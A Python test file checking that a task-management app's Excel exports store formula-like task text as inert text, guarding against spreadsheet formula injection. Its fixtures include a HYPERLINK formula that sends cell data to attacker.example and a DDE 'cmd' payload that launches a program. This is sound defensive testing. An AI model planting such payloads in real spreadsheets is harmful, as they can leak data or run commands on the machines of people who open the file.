"""Exported workbooks keep text as text: a task text starting with "=", "+", "-", "@" is never a live formula."""

import datetime as dt
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from nq57.core.testing import make_task
from nq57.tasks.services import subtask_create

PAYLOAD = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


@pytest.fixture
def hostile_tasks(cast):
    parent = make_task(notice=cast.notice, lead=[cast.kh], due=dt.date(2025, 12, 31), path="9")
    subtask_create(parent=parent, actor=cast.office, text=PAYLOAD, lead=cast.kh, deadline_due=dt.date(2025, 6, 30))
    for i, text in enumerate([PAYLOAD, *OTHERS]):
        make_task(notice=cast.notice, lead=[cast.tc], due=dt.date(2025, 5, 1), path=f"10.{i}", text=text)


def formulas_in(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))]


def texts_in(xlsx: bytes) -> set[str]:
    workbook = load_workbook(io.BytesIO(xlsx))
    return {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)}


def test_the_task_list_export_writes_formula_like_text_as_text(hostile_tasks, cast, client):
    client.force_login(cast.office)
    xlsx = b"".join(client.get("/tasks/export.xlsx").streaming_content)
    assert formulas_in(xlsx) == []
    assert {PAYLOAD, *OTHERS} <= texts_in(xlsx)  # shown exactly as typed


def test_the_consolidated_report_workbook_writes_formula_like_text_as_text(hostile_tasks, cast, client):
    client.force_login(cast.office)
    response = client.get(f"/consolidated/?notice={cast.notice.pk}&as_of=2025-09-01&format=xlsx")
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    assert {PAYLOAD, *OTHERS} <= texts_in(response.content)


def test_the_helper_marks_the_cell_as_text_with_a_quote_prefix():
    from openpyxl import Workbook

    from nq57.core.spreadsheet import neutralise_workbook, safe_row

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(safe_row(sheet, [PAYLOAD, "- gạch đầu dòng", "bình thường", 5, "\tthụt", "\r=1"]))
    sheet["A2"] = "=1+1"
    neutralise_workbook(workbook)
    assert [c.data_type for c in sheet[1]] == ["s", "s", "s", "n", "s", "s"] and sheet["A2"].data_type == "s"
    assert sheet["A1"].quotePrefix and sheet["B1"].quotePrefix and sheet["E1"].quotePrefix
    assert not sheet["C1"].quotePrefix
